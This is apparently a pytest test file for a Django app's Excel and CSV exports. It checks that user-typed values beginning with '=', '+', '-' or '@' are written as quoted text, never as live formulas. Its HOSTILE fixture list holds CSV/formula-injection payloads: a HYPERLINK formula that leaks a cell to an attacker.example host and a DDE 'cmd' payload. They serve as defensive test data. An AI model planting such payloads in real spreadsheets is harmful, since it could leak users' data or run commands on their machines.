"""Spreadsheet exports: what users typed is written as text (never a live formula), numbers as numbers,
dates as dates, whatever the text holds."""

import datetime as dt
import io
import zipfile

import pytest
from openpyxl import load_workbook

from dondoc.directives import services as directives
from dondoc.directives.models import Fulfilment
from dondoc.lib import calendar as cal
from dondoc.tests import factory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://attacker.example/leak?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1", "#N/A", "=1+1"]


def _sheet(response):
    assert response.status_code == 200
    data = response.content
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml, "no formula anywhere in the sheet"
    return load_workbook(io.BytesIO(data)).active


@pytest.fixture
def hostile(registry, program):
    """A program, a task and a unit whose typed names are formulas."""
    unit = factory.unit("ldld-hostile", HOSTILE[1], "provincial_federation", registry["centre"],
                        province=HOSTILE[2])
    document = factory.document(number="=1+1/KH", title=HOSTILE[0])
    task = directives.task_create(document=document, ref="@1", title=HOSTILE[3], lead_units=[unit],
                                  deadline_kind=cal.DATE, deadline_date=dt.date(2021, 11, 30),
                                  fulfilment=Fulfilment.COMPLETION_REPORT, action=HOSTILE[4])
    return {"unit": unit, "document": document, "task": task}


# The first row of figures: after the title block (what, as of, who exported and when, a blank row) and the header.
FIRST = 6


def test_a_formula_typed_as_a_title_is_text_in_the_program_export(client, monitor, hostile):
    client.force_login(monitor)
    sheet = _sheet(client.get(f"/theo-doi/chuong-trinh/{hostile['document'].pk}/excel/", {"ngay": "09/11/2021"}))
    title = sheet[f"B{FIRST}"]
    assert title.value == HOSTILE[3] and title.data_type == "s" and title.quotePrefix
    assert sheet[f"A{FIRST}"].value == "@1" and sheet[f"A{FIRST}"].data_type == "s"
    assert sheet[f"C{FIRST}"].is_date and sheet[f"C{FIRST}"].value.date() == dt.date(2021, 11, 30)
    assert isinstance(sheet[f"D{FIRST}"].value, int) and sheet[f"D{FIRST}"].value == 1  # units: a number


def test_every_export_writes_typed_text_as_text(client, monitor, hostile):
    client.force_login(monitor)
    task, unit = hostile["task"], hostile["unit"]
    for path in (f"/theo-doi/nhiem-vu/{task.pk}/excel/?theo=tinh",  # grouped by the province typed
                 f"/theo-doi/nhiem-vu/{task.pk}/chua-thuc-hien/excel/", f"/theo-doi/don-vi/{unit.pk}/excel/"):
        sheet = _sheet(client.get(path + ("&" if "?" in path else "?") + "ngay=09/12/2021"))
        texts = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "s"]
        assert any(t in HOSTILE for t in texts), path
        for row in sheet.iter_rows(min_row=2):
            for c in row:
                if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert c.data_type == "s" and c.quotePrefix, (path, c.coordinate, c.value)
    late = _sheet(client.get(f"/theo-doi/nhiem-vu/{task.pk}/chua-thuc-hien/excel/", {"ngay": "09/12/2021"}))
    assert late[f"A{FIRST}"].value == HOSTILE[1] and late[f"A{FIRST}"].data_type == "s"
    assert late[f"D{FIRST}"].is_date and late[f"F{FIRST}"].value == 9  # days late: a number


def test_control_characters_a_workbook_cannot_hold_do_not_break_the_export(client, monitor, registry, program):
    directives.task_create(document=program["document"], ref="3", title="Tổng\x01 kết\x1f", lead_units=[registry["tg"]],
                           deadline_kind=cal.DATE, deadline_date=dt.date(2021, 12, 1))
    client.force_login(monitor)
    sheet = _sheet(client.get(f"/theo-doi/chuong-trinh/{program['document'].pk}/excel/"))
    assert "Tổng kết" in [c.value for c in sheet["B"]]


def test_the_cell_helper_keeps_types():
    from openpyxl import Workbook

    from dondoc.lib.sheets import cell

    sheet = Workbook(write_only=True).create_sheet()
    assert cell(sheet, 3) == 3 and cell(sheet, 0.25) == 0.25 and cell(sheet, None) is None
    assert cell(sheet, "Hà Nội") == "Hà Nội"
    assert cell(sheet, "12") == "12"  # typed text that looks like a number stays text
    assert cell(sheet, dt.date(2021, 11, 9)).number_format == "DD/MM/YYYY"
    aware = cell(sheet, dt.datetime(2021, 11, 9, 1, 30, tzinfo=dt.UTC))
    assert aware.value == dt.datetime(2021, 11, 9, 8, 30)  # shown in Vietnam's time
    for text in HOSTILE:
        written = cell(sheet, text)
        assert written.data_type == "s" and written.value == text and written.quotePrefix


def test_the_not_done_list_streams_as_csv_with_typed_text_kept_as_text(client, monitor, hostile):
    import csv

    client.force_login(monitor)
    response = client.get(f"/theo-doi/nhiem-vu/{hostile['task'].pk}/chua-thuc-hien/csv/", {"ngay": "09/12/2021"})
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert ".csv" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the Vietnamese
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][0].startswith("Đơn vị chưa thực hiện nhiệm vụ")
    header = rows.index(["Đơn vị", "Loại đơn vị", "Tỉnh, thành phố", "Hạn", "Trạng thái", "Số ngày chậm"])
    first = rows[header + 1]
    assert first[0] == "'" + HOSTILE[1] and first[2] == "'" + HOSTILE[2]  # never run as a formula
    assert first[3] == "30/11/2021" and first[5] == "9"


def test_the_csv_export_refuses_a_bad_date_and_strangers(client, officer, monitor, hostile):
    client.force_login(monitor)
    assert client.get(f"/theo-doi/nhiem-vu/{hostile['task'].pk}/chua-thuc-hien/csv/", {"ngay": "31/02/2021"}
                      ).status_code == 400
    client.force_login(officer)
    assert client.get(f"/theo-doi/nhiem-vu/{hostile['task'].pk}/chua-thuc-hien/csv/").status_code in (403, 404)
